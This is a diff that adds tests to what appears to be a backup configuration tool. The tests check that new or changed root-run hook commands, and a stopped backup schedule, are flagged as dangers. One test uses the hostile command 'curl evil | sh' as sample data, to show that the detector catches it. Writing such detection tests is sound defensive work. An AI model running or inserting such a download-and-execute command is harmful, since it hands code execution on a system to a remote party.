@@ -177,6 +177,89 @@ describe("dangers of a change of the configuration", () => {
       );
     });
 
+    describe("that runs commands", () => {
+      const command = "pg_dump shop";
+      const settings = { schedule: "daily", window: 60 };
+      const [files] = repositories;
+      const client = (...changes: Inputs[]) => ({
+        ...existing,
+        repositories: changes.map((change) => ({ ...files, ...settings, ...change })),
+      });
+      const before = { before: { command, minutes: 60 } };
+      const says = (hook: string, what = command) =>
+        `client \`web\` runs a new command as root, \`${hook}\` of repository \`files\`: \`${what}\``;
+      const dangers = (was: Inputs, is: Inputs) => explained(update(CLIENT, was, is)).dangers;
+
+      test.each(["before", "after", "stdin"])("%s is a danger that shows the command", (hook) => {
+        const { dangers, plain } = explained(
+          update(CLIENT, client({}), client({ [hook]: { command, minutes: 60, filename: "shop.sql" } })),
+        );
+        expect(dangers).toEqual([says(hook)]);
+        expect(plain).toContain(
+          `- repository \`web/files\` \`${hook}\`: (empty) → \`{"command":"pg_dump shop",`,
+        );
+      });
+
+      test("is a danger where one becomes another, and none where it stays, or goes", () => {
+        const other = { before: { command: "curl evil | sh", minutes: 60 } };
+        expect(dangers(client(before), client(other))).toEqual([says("before", "curl evil | sh")]);
+        expect(dangers(client(before), client({ ...before, schedule: "hourly" }))).toEqual([]);
+        expect(dangers(client(before), client({}))).toEqual([]);
+      });
+
+      test("is a danger of a new repository and of a new client, too", () => {
+        expect(dangers({ ...existing, repositories: [] }, client(before))).toEqual([says("before")]);
+        const added = { ...update(CLIENT, {}, client(before)), op: "create", oldState: undefined };
+        expect(explained(added).dangers).toEqual([says("before")]);
+        expect(explained(added).plain).toContain("is added, with `files` (`/etc`, schedule `daily`)");
+      });
+
+      test("is shown among its files, a dump's as well", () => {
+        const file = { mode: "0600", owner: "root:root", digest: "0123456789ab" };
+        const stdin = { command, minutes: 60, filename: "shop.sql" };
+        const install = { title: "client web", script: "000000000000" };
+        const { plain } = explained(
+          update(CLIENT, client({}), client({ stdin })),
+          update("command:remote:Command", { stdin: "the script" }, { stdin: "the script with more" }),
+          update(
+            FILES_TYPE,
+            { install },
+            {
+              install,
+              "/etc/restic-backup/files/stdin": { ...file, concerns: [`stdin: runs "${command}"`] },
+            },
+          ),
+        );
+        expect(plain).toContain(
+          '- `/etc/restic-backup/files/stdin` added (`0600 root:root`); with `stdin: runs "pg_dump shop"`',
+        );
+        expect(plain).not.toContain("the script with");
+      });
+    });
+
+    test("backs up on another schedule: without one it stops, which is a danger", () => {
+      const on = (schedule?: string) => ({
+        ...existing,
+        repositories: [{ ...repositories[0], ...(schedule === undefined ? {} : { schedule }) }],
+      });
+      const change = (was?: string, is?: string) => explained(update(CLIENT, on(was), on(is)));
+      const stops = ["client `web` no longer backs up repository `files` by itself"];
+      expect(change("daily", "none").dangers).toEqual(stops);
+      for (const [was, is] of [
+        ["daily", "weekly"],
+        ["none", "daily"],
+        [undefined, "none"],
+      ]) {
+        expect(change(was, is).dangers).toEqual([]);
+      }
+      expect(change("daily", "weekly").plain).toContain(
+        "- repository `web/files` `schedule`: `daily` → `weekly`",
+      );
+      expect(change(undefined, "daily").plain).toContain(
+        "- repository `web/files` `schedule`: (empty) → `daily`",
+      );
+    });
+
     test("is frozen, and is no longer frozen", () => {
       const frozen = (before: boolean, after: boolean): string =>
         explained(update(CLIENT, { ...existing, frozen: before }, { ...existing, frozen: after })).plain;
